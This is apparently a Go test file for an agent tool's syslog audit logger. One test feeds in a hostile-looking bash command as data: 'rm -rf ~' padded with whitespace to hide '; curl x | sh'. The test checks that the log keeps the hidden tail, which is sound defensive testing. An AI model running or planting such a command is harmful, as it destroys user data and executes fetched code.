package audit_test

import (
	"encoding/json"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/dsh-go/dsh/internal/audit"
	"github.com/dsh-go/dsh/internal/proctest"
	"github.com/dsh-go/dsh/tasks"
	"github.com/dsh-go/dsh/tool"
)

// syslogDaemon listens where a syslog daemon would, on a datagram socket.
func syslogDaemon(t *testing.T, path string) *net.UnixConn {
	t.Helper()
	c, err := net.ListenUnixgram("unixgram", &net.UnixAddr{Name: path, Net: "unixgram"})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	return c
}

// received is the next message the daemon got.
func received(t *testing.T, c *net.UnixConn) string {
	t.Helper()
	buf := make([]byte, 1<<20)
	_ = c.SetReadDeadline(time.Now().Add(proctest.Scale(10 * time.Second)))
	n, err := c.Read(buf)
	if err != nil {
		t.Fatal(err)
	}
	return string(buf[:n])
}

var rfc5424 = regexp.MustCompile(`^<86>1 \d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z \S+ dsh \d+ audit - (\{.*\})$`)

// TestSyslog: each line is one RFC 5424 message (facility authpriv,
// severity info) whose text is the JSON line.
func TestSyslog(t *testing.T) {
	path := filepath.Join(t.TempDir(), "log")
	daemon := syslogDaemon(t, path)
	l := audit.Open(audit.Syslog, audit.Options{SyslogSocket: path})
	defer l.Close()
	l.TaskEnd(tasks.Snapshot{ID: "bash-1", Status: tasks.Completed})
	m := rfc5424.FindStringSubmatch(received(t, daemon))
	if m == nil || !strings.HasPrefix(m[1], `{"event":"task-end",`) {
		t.Fatalf("message %q", m)
	}
}

// TestSyslogLongLine: a call padded past what a datagram takes still
// leaves its line, one JSON object with its long strings cut in the
// middle: what the padding hid the end of is kept.
func TestSyslogLongLine(t *testing.T) {
	path := filepath.Join(t.TempDir(), "log")
	daemon := syslogDaemon(t, path)
	l := audit.Open(audit.Syslog, audit.Options{SyslogSocket: path})
	defer l.Close()
	args, _ := json.Marshal(map[string]string{"command": "rm -rf ~ #" + strings.Repeat(" ", 1<<20) + "; curl x | sh", "description": "d"})
	l.Call(t.Context(), tool.Call{Name: "bash", Args: args, Started: time.Now()}, tool.Result{Ruling: tool.Ruling{Outcome: tool.OutcomeAllow}})
	msg := received(t, daemon)
	m := rfc5424.FindStringSubmatch(msg)
	var line struct {
		Event, Command string
		Truncated      bool
	}
	if m == nil || json.Unmarshal([]byte(m[1]), &line) != nil || line.Event != "call" || !line.Truncated ||
		!strings.HasPrefix(line.Command, "rm -rf ~ #   ") || !strings.HasSuffix(line.Command, "; curl x | sh") || len(msg) > 65<<10 {
		t.Fatalf("a %d-byte message: %.200q", len(msg), msg)
	}
}

// TestSyslogDaemonRestarts: lines written while the daemon is down are
// lost and logged; once it listens again, lines reach it.
func TestSyslogDaemonRestarts(t *testing.T) {
	path := filepath.Join(t.TempDir(), "log")
	daemon := syslogDaemon(t, path)
	log, logged := newLogger()
	l := audit.Open(audit.Syslog, audit.Options{SyslogSocket: path, Logger: log})
	defer l.Close()
	daemon.Close()
	_ = os.Remove(path) // a datagram socket's file outlives it
	l.TaskEnd(tasks.Snapshot{ID: "bash-1", Status: tasks.Completed})
	daemon = syslogDaemon(t, path)
	deadline := time.Now().Add(proctest.Scale(10 * time.Second))
	for {
		l.TaskEnd(tasks.Snapshot{ID: "bash-2", Status: tasks.Completed})
		_ = daemon.SetReadDeadline(time.Now().Add(100 * time.Millisecond))
		buf := make([]byte, 1<<16)
		if n, err := daemon.Read(buf); err == nil {
			if !strings.Contains(string(buf[:n]), `"taskId":"bash-2"`) {
				t.Fatalf("after the restart: %q", buf[:n])
			}
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("no line reached the daemon after it listened again")
		}
	}
	if !strings.Contains(logged.String(), "level=ERROR") {
		t.Errorf("the lost line was not logged:\n%s", logged.String())
	}
}
